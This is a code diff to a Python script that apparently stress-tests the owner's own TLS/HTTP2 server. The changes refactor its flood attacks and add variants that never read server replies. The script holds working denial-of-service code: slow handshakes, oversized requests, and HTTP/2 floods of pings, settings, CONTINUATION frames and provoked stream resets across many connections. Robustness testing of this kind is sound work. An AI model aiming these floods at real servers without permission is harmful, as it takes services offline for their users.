@@ -4,12 +4,13 @@ does not slow who is honest.
 
 usage: port_attacks.py ATTACK HOST PORT FOLDER SECONDS
 
-client.pem, client.key and ca.pem lie in FOLDER; strangers don't use them. Prints one line of JSON: what was done, and
+thief.pem, thief.key and ca.pem lie in FOLDER; strangers don't use the former. Prints one line of JSON: what was done, and
 how often the port closed a connection by itself.
 """
 import asyncio
 import collections
 import json
+import logging
 import os
 import random
 import resource
@@ -20,7 +21,7 @@ import sys
 import time
 
 import hpack
-from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame, PriorityFrame,
+from hyperframe.frame import (ContinuationFrame, DataFrame, HeadersFrame, PingFrame, PriorityFrame,
                               RstStreamFrame, SettingsFrame, WindowUpdateFrame)
 
 CONNECTIONS = 2000
@@ -46,7 +47,7 @@ class Attack:
         context.check_hostname = False
         context.set_alpn_protocols([protocol])
         if with_certificate:
-            context.load_cert_chain(os.path.join(self.folder, "client.pem"), os.path.join(self.folder, "client.key"))
+            context.load_cert_chain(os.path.join(self.folder, "thief.pem"), os.path.join(self.folder, "thief.key"))
         return context
 
     async def connect(self, source, context=None):
@@ -201,7 +202,7 @@ async def oversized(attack):
     await attack.on_many(visit, 60, [THIEF])
 
 
-def flood(frames):
+def flood(frames, reads=True):
     """An attack: what `frames(streams)` makes again and again, on eight connections, as fast as the port takes it."""
     async def run(attack):
         context = attack.context("h2")
@@ -209,18 +210,28 @@ def flood(frames):
         async def visit(source):
             reader, writer = await attack.connect(source, context)
             attack.counts["admitted"] += 1
-            reading = asyncio.ensure_future(attack.until_closed(reader))
-            writer.write(PREFACE)
-            streams = iter(range(1, 2**31, 2))
-            while attack.goes_on and not reading.done():
-                writer.write(b"".join(frames(streams) for _ in range(50)))
-                attack.counts["frames at least"] += 50
-                await writer.drain()
-            if not attack.goes_on:
-                reading.cancel()
+            reading = asyncio.ensure_future(attack.until_closed(reader)) if reads else None
+            if not reads:
+                writer.transport.pause_reading()
+            try:
+                await pour(attack, writer, frames)
+            finally:
+                if reading:
+                    await asyncio.wait([reading], timeout=1)
+                    reading.cancel()
             return writer
         await attack.on_many(visit, 8, [THIEF])
     return run
+
+
+async def pour(attack, writer, frames):
+    writer.write(PREFACE)
+    streams = iter(range(1, 2**31, 2))
+    while attack.goes_on and not writer.transport.is_closing():
+        writer.write(b"".join(frames(streams) for _ in range(50)))
+        attack.counts["frames at least"] += 50
+        await asyncio.wait_for(writer.drain(), max(0.1, attack.end - time.monotonic()))
+        await asyncio.sleep(0)
 
 
 def request_frame(stream, flags=("END_HEADERS",)):
@@ -239,11 +250,8 @@ def provoked_reset(streams):
 
 
 def endless_headers(streams):
-    begun = getattr(endless_headers, "begun", None)
-    if begun != id(streams):
-        endless_headers.begun = id(streams)
-        return request_frame(next(streams), ())
-    return ContinuationFrame(1, b"").serialize()
+    stream = next(streams)
+    return request_frame(stream, ()) if stream == 1 else ContinuationFrame(1, b"").serialize()
 
 
 def many_settings(streams):
@@ -264,13 +272,15 @@ FLOODS = {
     "window_updates": lambda streams: WindowUpdateFrame(0, window_increment=1).serialize(),
     "priorities": lambda streams: PriorityFrame(1 + 2 * random.randrange(1000), depends_on=0,
                                                 stream_weight=1).serialize(),
-    "requests_never_read": lambda streams: request_frame(next(streams), ("END_HEADERS", "END_STREAM")),
+    "requests": lambda streams: request_frame(next(streams), ("END_HEADERS", "END_STREAM")),
     "random_frames": lambda streams: struct.pack(">I", random.randrange(300))[1:] + random.randbytes(6 + 300),
 }
 
 ATTACKS = {function.__name__: function for function in (slow_handshakes, random_bytes, plain_http, no_certificates,
                                                         slow_requests, oversized)}
 ATTACKS.update({f"flood_of_{name}": flood(frames) for name, frames in FLOODS.items()})
+ATTACKS["flood_of_requests_never_read"] = flood(FLOODS["requests"], reads=False)
+ATTACKS["flood_of_pings_never_read"] = flood(FLOODS["ping"], reads=False)
 
 
 def main():
@@ -279,6 +289,7 @@ def main():
     resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 8192), most))
     attack = Attack(host, int(port), folder, float(seconds))
     loop = asyncio.new_event_loop()
+    logging.disable(logging.WARNING)
     loop.set_exception_handler(lambda *_: None)  # connections that end in the middle are what this is about
     loop.run_until_complete(ATTACKS[name](attack))
     print(json.dumps(attack.counts), flush=True)
